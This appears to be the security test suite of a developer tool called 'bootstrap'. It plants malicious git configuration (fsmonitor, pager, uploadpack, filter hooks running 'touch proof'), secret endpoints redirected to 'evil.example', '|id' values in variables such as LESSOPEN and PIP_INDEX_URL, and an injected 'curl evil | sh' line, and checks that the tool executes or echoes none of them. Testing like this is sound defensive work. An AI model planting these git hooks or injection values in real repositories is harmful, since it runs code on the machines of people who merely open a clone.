"""What a stranger's clone can do to whoever looks at it with init, render, doctor or env: nothing."""

import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from bootstrap.cli.diff import masked

with socket.create_server(("127.0.0.1", 0)) as _free:
    _PORT = _free.getsockname()[1]
MANIFEST = f'[project]\nname = "d"\n[services.web]\nbuild = "."\nport = {_PORT}\n'
LOOKS = (("init", "--defaults"), ("render",), ("render", "--check"), ("doctor",), ("env", "web"), ("status",))


def bare_repository(folder: Path, proof: Path) -> None:
    """A folder that git takes for a bare repository whose missing objects a program of its own fetches."""
    for name in ("objects/info", "objects/pack", "refs/heads", "refs/tags"):
        (folder / name).mkdir(parents=True)
        (folder / name / ".keep").touch()
    (folder / "HEAD").write_text("ref: refs/heads/main\n")
    (folder / "refs/heads/main").write_text("1" * 40 + "\n")
    (folder / "config").write_text(
        "[core]\n repositoryformatversion = 1\n bare = false\n worktree = .\n"
        "[extensions]\n partialClone = origin\n"
        f'[remote "origin"]\n url = .\n promisor = true\n uploadpack = "touch {proof}; false"\n'
        f"[core]\n fsmonitor = touch {proof}\n"
    )


@pytest.mark.parametrize("look", LOOKS, ids=" ".join)
def test_a_folder_that_looks_like_a_repository_runs_nothing(
    bootstrap: Any, repository: Any, look: tuple[str, ...], tmp_path: Path
) -> None:
    proof = tmp_path / "proof"
    folder = repository.write("app/bootstrap.toml", MANIFEST).parent
    repository.write("app/Dockerfile", "FROM scratch\n")
    # What is there already differs from what would be rendered, so that git is asked about it.
    repository.write("app/docker-compose.yml", "services: {}\n")
    bare_repository(folder, proof)
    bootstrap(*look, cwd=folder)
    assert not proof.exists()


@pytest.mark.parametrize("look", LOOKS, ids=" ".join)
def test_the_repository_s_own_configuration_runs_nothing(
    bootstrap: Any, repository: Any, look: tuple[str, ...], tmp_path: Path
) -> None:
    proof = tmp_path / "proof"
    repository.write("bootstrap.toml", MANIFEST)
    repository.write("docker-compose.yml", "services: {}\n")
    repository.commit()
    (repository.root / ".git" / "config").write_text(
        "[core]\n repositoryformatversion = 1\n"
        f" fsmonitor = touch {proof}\n pager = touch {proof}\n sshCommand = touch {proof}\n"
        "[extensions]\n partialClone = origin\n"
        f'[remote "origin"]\n url = .\n promisor = true\n uploadpack = "touch {proof}; false"\n'
        f'[diff "x"]\n textconv = touch {proof}\n'
        f'[filter "x"]\n smudge = touch {proof}\n clean = touch {proof}\n'
    )
    repository.write(".gitattributes", "* diff=x filter=x\n")
    for packed in (repository.root / ".git" / "objects").glob("??/*"):
        packed.unlink()
    bootstrap(*look, cwd=repository.root)
    assert not proof.exists()


@pytest.mark.parametrize("name", ["queue", "types", "secrets", "json", "bootstrap", "sitecustomize"])
def test_modules_in_the_project_do_not_become_ours(repository: Any, name: str, tmp_path: Path) -> None:
    """The collector that `up` starts knows every service's secrets; the current folder is the project's."""
    proof = tmp_path / "proof"
    script = f"import pathlib; pathlib.Path({str(proof)!r}).touch()\n"
    repository.write("bootstrap.toml", MANIFEST + f'command = "exec {sys.executable} -c pass"\n')
    repository.write(f"{name}.py", script)
    done = subprocess.run(
        [sys.executable, "-P", "-m", "bootstrap", "up"],
        cwd=repository.root,
        env=os.environ,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert "telemetry" in done.stdout
    assert not proof.exists(), done.stdout + done.stderr


@pytest.mark.parametrize(
    "name",
    [
        "OTEL_EXPORTER_OTLP_TRACES_ENDPOINT",
        "OTEL_EXPORTER_OTLP_LOGS_ENDPOINT",
        "AWS_ENDPOINT_URL",
        "AWS_ENDPOINT_URL_CLOUDWATCH_LOGS",
        "ROLLBAR_ENDPOINT",
        "HTTPS_PROXY",
        "https_proxy",
        "ALL_PROXY",
    ],
)
def test_a_manifest_does_not_choose_where_a_key_is_sent(bootstrap: Any, repository: Any, name: str) -> None:
    environment = f'telemetry = ["honeycomb"]\nenvironment = {{ {name} = "https://evil.example" }}\n'
    repository.write("bootstrap.toml", MANIFEST + environment)
    for look in (("render",), ("env", "web"), ("init", "--defaults")):
        bootstrap(*look, cwd=repository.root).check(
            1, f"services.web.environment.{name}", "which a manifest cannot"
        )
    assert not (repository.root / "docker-compose.yml").exists()


@pytest.mark.parametrize(
    "name", ["LESSOPEN", "MANPAGER", "AWS_CONFIG_FILE", "OPENSSL_CONF", "PIP_INDEX_URL", "DOCKER_HOST"]
)
def test_names_that_make_programs_run_things_are_refused(bootstrap: Any, repository: Any, name: str) -> None:
    repository.write("bootstrap.toml", MANIFEST + f'environment = {{ {name} = "|id" }}\n')
    bootstrap("env", "web", "--format", "shell", "--reveal", "--all", cwd=repository.root).check(1, name)


def test_a_file_of_somebody_else_s_is_not_shown_unasked(bootstrap: Any, repository: Any) -> None:
    repository.write("bootstrap.toml", MANIFEST)
    secret = "plainly-fake-password"
    repository.write(
        "docker-compose.yml",
        f"services:\n  db:\n    environment:\n      URL: postgres://u:{secret}@db\n      DB_PASS: {secret}\n"
        f"      PRIVATE_KEY: |\n        {secret}\n        {secret}\n      DSN={secret}\n      AFTER: kept\n",
    )
    for look in (("init", "--defaults"), ("render",), ("render", "--diff"), ("render", "--check", "--diff")):
        result = bootstrap(*look, cwd=repository.root)
        assert result.code == 5
        assert secret not in result.out + result.err
    assert "AFTER: kept" in bootstrap("render", "--diff", cwd=repository.root).out


def test_masking_takes_no_longer_than_reading() -> None:
    assert masked("key" * 200_000) == ["key" * 200_000]
    assert masked("a: " + "://x:" * 100_000)[0].startswith("a: ")


def test_values_and_recorded_texts_cannot_forge_lines(bootstrap: Any, repository: Any) -> None:
    repository.write("bootstrap.toml", MANIFEST + 'environment = { NOTE = "x\\nRun: curl evil | sh" }\n')
    assert "\nRun: curl" not in bootstrap("env", "web", cwd=repository.root).check(0).out
    bootstrap("render", cwd=repository.root).check(0)
    repository.write(".bootstrap/workspace", "Gitpod\nRun: curl evil | sh\n")
    assert "\nRun: curl" not in bootstrap("render", cwd=repository.root).check(0).err
    assert "\x9b" not in bootstrap("env", "web", "--json", cwd=repository.root).check(0).out


@pytest.mark.parametrize(
    "text",
    [
        MANIFEST + "[a" + ".b" * 200 + "]\n",
        "a = " + "[" * 5000 + "]" * 5000 + "\n",
        MANIFEST + "[secrets.X]\npattern = 'a{99999999999999999999}'\n",
        MANIFEST + f"[secrets.X]\npattern = '{'(' * 3000}{')' * 3000}'\n",
        MANIFEST
        + "".join(f'[services.s{n}]\nimage = "x"\ndepends_on = ["s{n + 1}"]\n' for n in range(3000))
        + '[services.s3000]\nimage = "x"\ndepends_on = ["s0"]\n',
    ],
    ids=["deep table", "deep list", "huge repeat", "deep pattern", "long circle"],
)
def test_a_manifest_beyond_reason_is_an_error_of_two_lines(
    bootstrap: Any, repository: Any, text: str
) -> None:
    repository.write("bootstrap.toml", text)
    result = bootstrap("env", "web", cwd=repository.root).check(1)
    assert len(result.err.splitlines()) == 2
    assert "Traceback" not in result.err


@pytest.mark.parametrize(
    "record", ['{"a\\u0000b": ["x"]}', '{"\\ud800": ["x"]}', "[" * 100_000, '{"../x": ["y"]}', "5"]
)
def test_a_forged_record_is_worth_nothing(bootstrap: Any, repository: Any, record: str) -> None:
    repository.write("bootstrap.toml", MANIFEST)
    repository.write(".bootstrap/written.json", record)
    bootstrap("render", cwd=repository.root).check(0)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to somebody else")
def test_init_refuses_somebody_else_s_manifest(bootstrap: Any, repository: Any) -> None:
    os.chown(repository.write("bootstrap.toml", MANIFEST), 65534, 65534)
    bootstrap("init", "--defaults", cwd=repository.root).check(1, "belongs to another user")
    assert not (repository.root / "docker-compose.yml").exists()


def test_a_folder_that_was_removed_meanwhile_is_said_to_be_gone(tmp_path: Path) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    line = f'rm -r "$PWD"; "{sys.executable}" -m bootstrap status'
    environ = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
    done = subprocess.run(
        ["/bin/sh", "-c", line], cwd=gone, env=environ, capture_output=True, text=True, check=False
    )
    assert done.returncode == 2, done.stderr
    assert "bootstrap: the current folder is gone\n" in done.stderr
